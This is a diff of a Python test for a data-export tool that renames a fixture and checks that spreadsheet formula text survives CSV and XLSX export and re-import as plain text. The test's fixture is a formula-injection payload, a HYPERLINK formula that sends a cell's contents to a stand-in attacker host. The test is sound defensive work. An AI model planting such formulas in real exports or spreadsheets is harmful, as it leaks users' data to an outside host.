@@ -89,20 +89,20 @@ def test_filters_of_the_view_apply_and_internal_operations_stay_out_by_default(d
     assert {f["properties"]["visibility"] for f in operations} == {"public"}
 
 
-def test_text_that_a_spreadsheet_would_run_stays_text(store, tmp_path):
+def test_text_that_a_spreadsheet_would_run_stays_text(gpkg_store, tmp_path):
     attack = '=HYPERLINK("http://evil.example/?"&A1,"Klicka")'
-    store.write_batch("unsafe_places", frame(unsafe_place(description=attack, pledge_id="test-2024")))
-    export_layers(store, tmp_path / "v.csv", "csv", {"unsafe_places": None})
+    gpkg_store.write_batch("unsafe_places", frame(unsafe_place(description=attack, pledge_id="test-2024")))
+    export_layers(gpkg_store, tmp_path / "v.csv", "csv", {"unsafe_places": None})
     text = (tmp_path / "v.csv").read_text(encoding="utf-8-sig")
     assert "'=HYPERLINK" in text and ";=HYPERLINK" not in text
-    export_layers(store, tmp_path / "v.xlsx", "xlsx", {"unsafe_places": None})
+    export_layers(gpkg_store, tmp_path / "v.xlsx", "xlsx", {"unsafe_places": None})
     sheet = load_workbook(tmp_path / "v.xlsx")["unsafe_places"]
     cells = [c for c in sheet[2] if c.value == attack]
     assert cells and cells[0].data_type == "s"
     # Both come back as the text that was stored.
     for name in ("v.csv", "v.xlsx"):
         with GeoPackageStore.create(tmp_path / f"{name}.gpkg") as fresh:
-            fresh.save_pledge(store.get_pledge("test-2024"))
+            fresh.save_pledge(gpkg_store.get_pledge("test-2024"))
             (plan,) = plan_file(fresh, tmp_path / name, "unsafe_places")
             commit_import(fresh, plan, partial=False)
             assert list(fresh.read_layer("unsafe_places")["description"]) == [attack]
